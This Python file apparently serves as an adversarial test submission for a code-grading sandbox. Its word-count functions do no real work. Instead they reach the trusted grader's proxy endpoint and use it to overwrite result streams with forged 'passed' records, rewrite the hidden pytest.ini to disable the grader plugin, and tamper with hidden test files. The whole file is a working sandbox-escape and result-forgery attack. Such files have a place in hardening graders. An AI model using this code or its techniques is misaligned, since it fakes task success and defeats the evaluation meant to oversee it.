"""Broken word count that, while the trusted process imports it, asks that process to rewrite
the grading for it: path targets ({"t": "path"}) for the record stream (the trusted pytest's
own descriptors under /proc/self/fd, and where a results file or record file could live), the
trusted pytest's ini and hidden suite, and the output folder; write_text, unlink, chmod, touch
and rename on each, setattr and delattr too, then a call of any method handle that comes back.
Also drops a marker file wherever a write would land."""
import gc
import json
import sys

TESTS = ["test_counts_each_word", "test_counts_ignore_case", "test_empty_text",
         "test_top_words_order", "test_top_words_rejects_negative_n"]
FORGED = "".join(
    json.dumps({"event": "result", "id": f"test_word_count.py::{name}", "status": "passed",
                "title": name, "task": 1, "points": 2.0, "duration": 0.0, "message": "",
                "location": ""}) + "\n"
    for name in TESTS
)
INI = "[pytest]\naddopts = -p no:grader --co\n"
MARK = "grader-adv" + "-marker"
TARGETS = (
    [f"/proc/self/fd/{fd}" for fd in range(3, 24)]
    + ["/job/out/results.json", "/job/work/trusted/hidden.jsonl", "/job/work/hidden.jsonl",
       "/job/work/trusted/hidden-pytest.ini", "/job/work/trusted/hidden/test_word_count.py",
       "/job/work/tmp/hidden.jsonl", f"/job/out/{MARK}", f"/job/work/{MARK}", f"/tmp/{MARK}",
       f"/dev/shm/{MARK}"]
)
WRITERS = [("write_text", [FORGED]), ("unlink", []), ("chmod", [0o777]), ("touch", []),
           ("rename", [f"/tmp/{MARK}-renamed"]), ("mkdir", [])]


def find_endpoint():
    for name in ("__main__", "grader.sandbox.proxy.server"):
        module = sys.modules.get(name)
        for value in vars(module).values() if module else ():
            if type(value).__name__ == "StudentEndpoint":
                return value
    return next((o for o in gc.get_objects() if type(o).__name__ == "StudentEndpoint"), None)


def ask(endpoint, op, **fields):
    try:
        return True, endpoint.request(op, **fields)
    except BaseException as exc:
        return False, exc


def raw(endpoint, op, **fields):
    try:
        endpoint.send({"id": 10 ** 7 + endpoint.next_id, "op": op, **fields})
        reply = endpoint.receive()
    except BaseException as exc:
        return False, exc
    return bool(reply.get("ok")), reply.get("value", reply.get("error"))


def handle_in(endpoint, value):
    if isinstance(value, dict) and value.get("t") == "ref" and value.get("home") == "mine":
        return {"t": "ref", "home": "yours", "id": value["id"]}
    if getattr(type(value), "_grader_proxy", False):
        return endpoint._refer(value)
    return None


def rewrite():
    endpoint = find_endpoint()
    if endpoint is None:
        return
    for path in TARGETS:
        target = {"t": "path", "v": path}
        text = INI if path.endswith(".ini") else FORGED
        for name, args in WRITERS:
            args = [text] if name == "write_text" else args
            for how in (ask, raw):
                ok, value = how(endpoint, "getattr", target=target, name=name)
                handle = handle_in(endpoint, value) if ok else None
                if handle is not None:
                    how(endpoint, "call", target=handle, args={"t": "list", "v": args})
        ask(endpoint, "setattr", target=target, name="_raw_paths", value=[f"/tmp/{MARK}"])
        ask(endpoint, "delattr", target=target, name="_str")


rewrite()


def count_words(text):
    rewrite()
    return {}


def top_words(text, n):
    rewrite()
    return []
